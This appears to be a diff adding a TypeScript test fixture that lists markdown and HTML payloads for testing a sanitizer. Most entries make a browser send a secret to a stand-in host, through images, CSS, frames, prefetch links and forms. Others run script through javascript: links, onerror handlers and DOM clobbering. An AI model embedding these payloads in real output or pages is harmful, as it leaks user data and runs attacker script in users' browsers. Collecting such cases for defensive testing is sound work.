@@ -1,0 +1,22 @@
+/** Forms by which text from outside tries to make a reader's browser call home or run something. */
+export const HOSTILE_MARKDOWN: Readonly<Record<string, string>> = {
+  'inline picture': '![a](https://evil.test/p?d=SECRET)',
+  'picture by reference': '![a][r]\n\n[r]: https://evil.test/p?d=SECRET',
+  'html picture': '<img src="https://evil.test/p?d=SECRET">',
+  'picture by size': '<img srcset="https://evil.test/p?d=SECRET 1x">',
+  'style attribute': '<p style="background:url(https://evil.test/p?d=SECRET)">x</p>',
+  'style sheet': '<style>@import url(https://evil.test/p?d=SECRET)</style>',
+  drawing: '<svg><image href="https://evil.test/p?d=SECRET"/></svg>',
+  video: '<video poster="https://evil.test/p?d=SECRET" src="https://evil.test/v"></video>',
+  'picture with sources': '<picture><source srcset="https://evil.test/p?d=SECRET"><img></picture>',
+  prefetch: '<link rel=prefetch href="https://evil.test/p?d=SECRET">',
+  frame: '<iframe src="https://evil.test/p?d=SECRET"></iframe>',
+  'button picture': '<input type=image src="https://evil.test/p?d=SECRET">',
+  'address without scheme': '![a](//evil.test/p?d=SECRET)',
+  'script address': '[x](javascript:alert(1))',
+  'script address in disguise': '[x](java&#10;script:alert(1))',
+  'event attribute': '<img src=x onerror=alert(1)>',
+  'bare address': 'https://evil.test/p?d=SECRET',
+  form: '<form action="https://evil.test"><input name=q></form>',
+  'named elements': '<a id=config></a><a id=config name=url href="https://evil.test">',
+}
